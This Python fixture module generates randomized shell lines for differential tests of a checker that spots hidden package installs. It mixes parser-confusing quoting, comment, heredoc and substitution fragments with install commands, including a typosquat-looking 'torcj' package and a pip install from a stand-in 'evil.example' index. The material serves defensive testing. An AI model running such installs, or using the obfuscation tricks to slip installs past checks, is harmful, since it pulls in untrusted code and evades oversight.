"""Shell lines built from fragments that stress the shell text reading (red team 12: escaped
blanks, carriage returns, comments, quotes, bash's $'...', substitutions nested in double
quotes, ${...}, heredoc bodies), each with an installer command somewhere. Used by
tests/deps/test_shell_differential.py (against the real bash and dash) and by
scripts/shell-lines-fixture.py (the static side reads them as the kernel does)."""

import random

INSTALLS = [
    "pip install torcj",
    "uv pip install torcj",
    "pip install -i https://evil.example/s torcj",
    "conda install torcj",
]
FRAGMENTS = [
    "echo a\\ #",
    "echo a\r#",
    "echo ${x:-a #}",
    "echo ${x:-'a #'}",
    "echo $'\\' #'",
    "echo $'a #'",
    "echo $'\\n'",
    'echo "$(echo " #")"',
    'echo "`echo " #"`"',
    "echo $(echo a #b\n)",
    "x=$(echo ')')",
    "echo $((16#ff))",
    "echo 'x' #y",
    'echo "a # b"',
    "echo \\#",
    "echo a#b",
    "# pip install x; echo",
    'echo "it\'s"',
    "echo 'say \"hi\"'",
    "echo \\'",
    'echo \\"',
    ": <<E\nit's\nE",
    ": <<-'E'\n\tdon't #\n\tE",
    ": <<A <<B\n'\nA\n\"\nB",
    'cat <<<"it\'s"',
    "echo a \\\n #b",
    "echo $x#y",
    "echo ${#x}",
    "true",
    "echo ')'",
]
SEPARATORS = ["; ", " && ", "\n", " || "]
# pieces inserted at random places: each may open, close or escape something
NOISE = ["\\ ", "\r", " #", "'", '"', "$'", "$(", ")", "`", "${x:-", "}", "\\", "<<E\n", "\nE\n"]
NOISE += [";>x ", ">x ", "<<E\\; ", "\n<<E ", "&&<x "]  # a redirection first: `true;>x pip ...`


def line(rng: random.Random) -> str:
    parts = [rng.choice(FRAGMENTS) for _ in range(rng.randint(1, 3))]
    parts.insert(rng.randint(0, len(parts)), rng.choice(INSTALLS))
    text = parts[0]
    for part in parts[1:]:
        text += rng.choice(SEPARATORS) + part
    for _ in range(rng.choice((0, 0, 1, 2))):
        at = rng.randint(0, len(text))
        text = text[:at] + rng.choice(NOISE) + text[at:]
    return text


def lines(count: int, seed: int = 12) -> list:
    rng = random.Random(seed)  # noqa: S311 - reproducible test lines, not secrets
    found = []
    while len(found) < count:
        text = line(rng)
        if text not in found:
            found.append(text)
    return found
